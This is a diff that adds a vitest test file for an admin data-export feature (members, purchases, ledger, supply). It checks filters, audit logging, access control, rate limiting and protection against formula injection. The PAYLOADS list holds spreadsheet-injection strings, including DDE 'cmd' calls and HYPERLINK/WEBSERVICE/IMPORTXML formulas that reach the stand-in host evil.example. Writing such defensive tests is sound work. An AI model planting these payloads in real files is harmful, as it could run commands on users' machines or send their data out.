@@ -1,0 +1,261 @@
+/** What admins take along: all of it, under the filters of the screens, as text that no spreadsheet runs. */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { type Account, companyIdOf, makeAdmin, makeCompany, makeMember } from '../support/accounts.ts';
+import { fetchExport, type Row, takeExport } from '../support/exports.ts';
+import { APPROVE, freshReference, manual, post, REJECT, REVERSE, submitted, upi } from '../support/purchases.ts';
+import { freshIp, type Site, startSite } from '../support/site.ts';
+
+let site: Site;
+let companyId: string;
+let admin: Account;
+let referrer: Account;
+let buyer: Account;
+const FORMATS = ['csv', 'xlsx'] as const;
+/** By state, with what is searched for. */
+const made: Record<string, { id: string; orderNumber: string; referenceNumber: string | null }> = {};
+
+beforeAll(async () => {
+  site = await startSite();
+  companyId = await companyIdOf(site);
+  admin = await makeAdmin(site, { name: 'Vikram Shah' });
+  referrer = await makeMember(site, { name: 'Meera Iyer', isApproved: true });
+  buyer = await makeMember(site, { name: 'Zoë "Zed" Ünal, Jr.', referrerId: referrer.id });
+  for (const state of ['PENDING', 'APPROVED', 'REJECTED', 'REVERSED'] as const) {
+    const it = await submitted(site, buyer, await upi(site, buyer, { amount: '1180.50' }));
+    made[state] = it;
+    if (state === 'REJECTED') await post(site, REJECT, admin, { id: it.id, reason: 'No such payment' });
+    if (state === 'APPROVED' || state === 'REVERSED') await post(site, APPROVE, admin, { id: it.id });
+    if (state === 'REVERSED') await post(site, REVERSE, admin, { id: it.id, reason: 'Charged back' });
+  }
+  await submitted(site, referrer, manual());
+});
+afterAll(() => site?.remove());
+
+const take = (kind: string, query: Record<string, string> & { format: 'csv' | 'xlsx' }, who = admin) =>
+  takeExport(site, who, kind, query);
+const screen = async (query: string) =>
+  (await site.call('GET', `/api/v1/admin/transaction/list?limit=100&${query}`, { token: admin.token, ip: freshIp() }))
+    .body.data.records as { orderNumber: string }[];
+const orders = (rows: readonly Row[]): string[] => rows.map((row) => row['Order #'] ?? '').sort();
+
+describe.each(FORMATS)('purchases as %s', (format) => {
+  it('hold every status, amounts to the paisa, both times, and numbers as text', async () => {
+    const { rows, fileName } = await take('purchases', { format });
+    expect(fileName).toMatch(new RegExp(`^COWL-purchases-\\d{4}-\\d{2}-\\d{2}\\.${format}$`));
+    expect(new Set(rows.map((row) => row.Status))).toEqual(new Set(['PENDING', 'APPROVED', 'REJECTED', 'REVERSED']));
+    const row = rows.find((it) => it['Order #'] === made.REVERSED?.orderNumber);
+    expect(row).toMatchObject({
+      'Member ID': buyer.memberId,
+      Name: 'Zoë "Zed" Ünal, Jr.',
+      Mobile: '+919876543210',
+      Method: 'UPI',
+      Price: '0.25',
+      Quantity: '4000',
+      'Platform fees %': '18',
+      'UTR or Transaction Number': made.REVERSED?.referenceNumber,
+      'Decided by': 'Vikram Shah',
+      'Reversed by': 'Vikram Shah',
+      'Reversal reason': 'Charged back',
+      'Reject reason': '',
+      'Submitted (UTC)': expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
+      'Submitted (India)': expect.stringMatching(/^\d\d\/\d\d\/\d{4}, \d\d:\d\d:\d\d [ap]m$/),
+      'Receipt number': expect.stringMatching(/^COWL\/\d\d-\d\d\/\d{5}$/),
+      'Transaction Hash': expect.stringMatching(/^0x[0-9a-f]{64}$/),
+    });
+    const amounts = ['Order amount', 'Platform fees', 'Final amount', 'Claimed amount'].map((head) =>
+      Number(row?.[head]),
+    );
+    expect(amounts).toEqual([1000, 180, 1180, 1180.5]);
+    const rejected = rows.find((it) => it['Order #'] === made.REJECTED?.orderNumber);
+    expect(rejected).toMatchObject({ 'Reject reason': 'No such payment', 'Receipt number': '', 'Reversed (UTC)': '' });
+  });
+
+  it.each([
+    'status=PENDING',
+    'status=APPROVED',
+    'status=REJECTED',
+    'status=REVERSED',
+    'status=ALL',
+    'search=ÜNAL',
+    'search=meera&status=PENDING',
+    'search=nobody',
+    'waiting=second',
+  ])('agree with the screen: %s', async (query) => {
+    const { rows } = await take('purchases', { format, ...Object.fromEntries(new URLSearchParams(query)) });
+    expect(orders(rows)).toEqual((await screen(query)).map((it) => it.orderNumber).sort());
+  });
+
+  it('find a reference as a statement prints it', async () => {
+    const reference = made.APPROVED?.referenceNumber ?? '';
+    const { rows } = await take('purchases', { format, search: reference.replace(/(.{4})/g, '$1 ') });
+    expect(orders(rows)).toEqual([made.APPROVED?.orderNumber]);
+  });
+});
+
+describe.each(FORMATS)('other lists as %s', (format) => {
+  it('members, under the filters of their screen', async () => {
+    const { rows } = await take('members', { format });
+    const mine = rows.find((row) => row['Member ID'] === buyer.memberId);
+    expect(mine).toMatchObject({
+      Name: 'Zoë "Zed" Ünal, Jr.',
+      Email: buyer.email,
+      Role: 'USER',
+      Status: 'ACTIVE',
+      Verified: 'No',
+      'Referred by': referrer.memberId,
+      'Stock balance': '4000',
+    });
+    const only = async (query: Record<string, string>) =>
+      (await take('members', { format, ...query })).rows.map((row) => row['Member ID']);
+    expect(await only({ isApproved: 'false' })).toEqual([buyer.memberId]);
+    expect(await only({ isApproved: 'true' })).not.toContain(buyer.memberId);
+    expect(await only({ search: 'meera' })).toEqual([referrer.memberId]);
+    expect(await only({ search: '%' })).toEqual([]);
+  });
+
+  it('the ledger, in its order, chained, without a sign before any figure', async () => {
+    const { rows } = await take('ledger', { format });
+    expect(rows.map((row) => [row.Kind, row['Member ID'], row.Credited, row['Taken back']])).toEqual([
+      ['PURCHASE', buyer.memberId, '4000', '0'],
+      ['REWARD', referrer.memberId, '200', '0'],
+      ['PURCHASE', buyer.memberId, '4000', '0'],
+      ['REWARD', referrer.memberId, '200', '0'],
+      ['ADJUSTMENT', buyer.memberId, '0', '4000'],
+      ['ADJUSTMENT', referrer.memberId, '0', '200'],
+    ]);
+    for (const [at, row] of rows.entries())
+      if (at > 0) expect(row['Hash before']).toBe(rows[at - 1]?.['Transaction Hash']);
+    expect(rows[1]).toMatchObject({ 'Order #': made.APPROVED?.orderNumber, 'Member ID of the buyer': buyer.memberId });
+    const one = await take('ledger', { format, memberId: referrer.memberId.toLowerCase() });
+    expect(one.rows).toHaveLength(3);
+  });
+
+  it('the supply, whose parts make the whole', async () => {
+    const { rows } = await take('supply', { format });
+    const tokens = Object.fromEntries(rows.map((row) => [row.Supply, BigInt(row.Tokens ?? 0)]));
+    const sum = (...parts: string[]): bigint => parts.reduce((all, part) => all + (tokens[part] ?? -1n), 0n);
+    expect(
+      sum('Private Supply', 'Public Cell Supply', 'Angel Investor Supply', 'Founder Team Supply', 'Airdrop Supply'),
+    ).toBe(tokens['Total Supply']);
+    expect(sum('Credited to members', 'Held by pending purchases', 'Remaining Private Supply')).toBe(
+      tokens['Private Supply'],
+    );
+  });
+});
+
+/** Beginnings that some spreadsheet program has run or fetched. */
+const PAYLOADS = [
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
+  '=WEBSERVICE("http://evil.example")',
+  '=IMPORTXML("http://evil.example","//a")',
+  '=DDE("cmd";"/C calc";"x")',
+  '+1+1',
+  "+cmd|' /C notepad'!A0",
+  '-1+1',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '@A1',
+  '  =1+1',
+  '\u00a0=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '%0A=1+1',
+  '|cmd',
+  '"=1+1"',
+  "';=1+1",
+] as const;
+const FORMULA_CHARACTER = /^\s*[=+\-@\t\r＝＋－＠|%]/;
+
+describe.each(FORMATS)('formulas as %s', (format) => {
+  it(`${PAYLOADS.length} payloads in every field: no cell begins with a formula character, and all come back whole`, async () => {
+    const own = await startSite();
+    try {
+      const boss = await makeAdmin(own, { name: '=1+1' });
+      for (const [nth, name] of PAYLOADS.entries()) {
+        const member = await makeMember(own, { name, email: `p${nth}@example.com` });
+        const reference = nth % 2 ? freshReference() : `0${freshReference()}`;
+        const it = await submitted(own, member, await upi(own, member, { referenceNumber: reference }));
+        await post(own, nth % 2 ? APPROVE : REJECT, boss, { id: it.id, ...(nth % 2 === 0 && { reason: name }) });
+        await own.database.platform
+          .updateTable('purchases')
+          .set({ transaction_id: name, ...(nth % 2 === 0 && { reject_reason: name }) })
+          .where('id', '=', it.id)
+          .execute();
+      }
+      for (const kind of ['members', 'purchases', 'ledger', 'supply']) {
+        const { cells, rows } = await takeExport(own, boss, kind, { format });
+        expect(cells.filter((cell) => FORMULA_CHARACTER.test(cell))).toEqual([]);
+        if (kind === 'members' || kind === 'purchases')
+          for (const name of PAYLOADS) expect(rows.map((row) => row.Name)).toContain(name);
+        if (kind === 'purchases')
+          for (const name of PAYLOADS) expect(rows.map((row) => row['Transaction ID'])).toContain(name);
+      }
+    } finally {
+      await own.remove();
+    }
+  });
+});
+
+describe('who may, and what is kept of it', () => {
+  it('is in the trail before it leaves, without what was searched for', async () => {
+    await take('purchases', { format: 'csv', search: 'Zoë', status: 'APPROVED' });
+    const last = await site.database.platform
+      .selectFrom('audit_entries')
+      .selectAll()
+      .where('scope_id', '=', companyId)
+      .orderBy('seq', 'desc')
+      .limit(1)
+      .executeTakeFirst();
+    expect(last).toMatchObject({
+      action: 'export.purchases',
+      actor_id: admin.id,
+      subject_kind: 'company',
+      after: { format: 'csv', status: 'APPROVED', isSearch: true },
+    });
+  });
+
+  it.each(['members', 'purchases', 'ledger', 'supply'])('%s: admins of this company alone', async (kind) => {
+    const path = `/api/v1/admin/export/${kind}?format=csv`;
+    const foreign = await makeAdmin(site, { companyId: await makeCompany(site) });
+    const call = (options: Parameters<Site['call']>[2]) => site.call('GET', path, { ip: freshIp(), ...options });
+    expect((await call({})).status).toBe(401);
+    expect((await call({ token: buyer.token })).status).toBe(403);
+    expect((await call({ token: foreign.token })).status).toBe(401);
+    expect((await call({ cookie: admin.cookie })).status).toBe(200);
+    // A page of somebody else must not make an admin's browser fetch the company's books.
+    for (const site of ['cross-site', 'same-site'])
+      expect((await call({ cookie: admin.cookie, headers: { 'Sec-Fetch-Site': site } })).status).toBe(403);
+  });
+
+  it('holds nothing of another company', async () => {
+    const strange = await makeCompany(site);
+    const stranger = await makeMember(site, { companyId: strange, name: 'Stranger Danger' });
+    const { cells } = await take('members', { format: 'csv' });
+    expect(cells).not.toContain(stranger.memberId);
+  });
+
+  it.each([
+    ['', 'The format must be csv or xlsx.'],
+    ['format=pdf', 'The format must be csv or xlsx.'],
+    ['format=csv&status=DONE', 'The status must be PENDING, APPROVED, REJECTED, REVERSED or ALL.'],
+  ])('%j', async (query, message) => {
+    const answer = await fetchExport(site, admin, 'purchases', query);
+    expect([answer.status, ((await answer.json()) as { message: string }).message]).toEqual([422, message]);
+  });
+
+  it('so many an hour and no more', async () => {
+    const busy = await makeAdmin(site);
+    const statuses: number[] = [];
+    for (let nth = 0; nth < 61; nth++) {
+      const answer = await fetchExport(site, busy, 'supply', 'format=csv');
+      await answer.arrayBuffer();
+      statuses.push(answer.status);
+    }
+    expect(statuses.filter((status) => status === 200)).toHaveLength(60);
+    expect(statuses.at(-1)).toBe(429);
+  });
+});
